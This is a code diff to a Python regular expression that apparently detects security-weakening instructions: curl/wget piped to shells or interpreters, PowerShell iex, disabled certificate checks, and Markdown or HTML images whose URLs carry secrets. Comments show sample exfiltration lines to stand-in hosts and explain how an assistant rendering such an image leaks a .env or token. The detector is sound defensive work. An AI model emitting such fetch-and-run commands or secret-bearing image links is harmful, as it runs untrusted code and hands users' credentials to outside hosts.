@@ -144,7 +144,9 @@ WEAKENING = re.compile(
     r"|\b(?:disable|skip|turn\s+off|bypass|remove)\s+(?:the\s+|all\s+)?(?:ssl|tls|certificate|cert|signature|auth(?:entication)?|csrf)\s*"
     r"(?:verification|validation|checks?|checking)?"
     # bounded spans: `curl curl curl ...` with no pipe made an unbounded [^\n|]* scan quadratic
-    r"|\bcurl\s+[^\n|]{0,400}\|\s*(?:sudo\s+)?(?:ba|z)?sh\b|\bwget\s+[^\n|]{0,400}\|\s*(?:sudo\s+)?(?:ba)?sh\b"
+    # (an interpreter given options, `| python -m json.tool`, formats what came back rather than running it)
+    r"|\bcurl\s+[^\n|]{0,400}\|\s*(?:sudo\s+)?(?:(?:ba|z)?sh\b|(?:node|python[23]?|perl|ruby|deno|bun)\b(?!\s+-\w))"
+    r"|\bwget\s+[^\n|]{0,400}\|\s*(?:sudo\s+)?(?:(?:ba)?sh\b|(?:node|python[23]?|perl|ruby|deno|bun)\b(?!\s+-\w))"
     # the same without a pipe: process substitution, a command substitution handed to sh -c, PowerShell's iex
     r"|\b(?:(?:ba|z|k)?sh|source)\s+<\(\s*(?:curl|wget)\b|\b(?:ba|z)?sh\s+-c\s+[\"']?\$\(\s*(?:curl|wget)\b"
     r"|\b(?:iwr|irm|invoke-webrequest|invoke-restmethod)\b[^\n|]{0,300}\|\s*(?:iex|invoke-expression)\b"
@@ -165,6 +167,9 @@ WEAKENING = re.compile(
     # a Markdown image or link the assistant is to render with a secret filled into its URL: the chat client fetches
     # it, and the query string carries the secret out (`![ok](https://x.example/p.png?d=<base64 of .env>)`)
     r"|!?\[[^\]\n]{0,80}\]\(\s*https?://[^)\s]{0,300}?(?:<|\{\{?|\$\{?|%)[^)>}\n]{0,80}?"
+    r"(?:\.env\b|secret|token|api[\s_-]?key|password|credential|environment|ssh|private[\s_-]?key)"
+    # the same as an HTML image: `<img src="https://x/p.png?t={{GITHUB_TOKEN}}">`
+    r"|<img\b[^>\n]{0,80}\bsrc\s*=\s*[\"']?https?://[^\"'\s>]{0,300}?(?:<|\{\{?|\$\{?|%)[^\"'>}\n]{0,80}?"
     r"(?:\.env\b|secret|token|api[\s_-]?key|password|credential|environment|ssh|private[\s_-]?key)"
     + PLAIN_ASKS + ")")
 
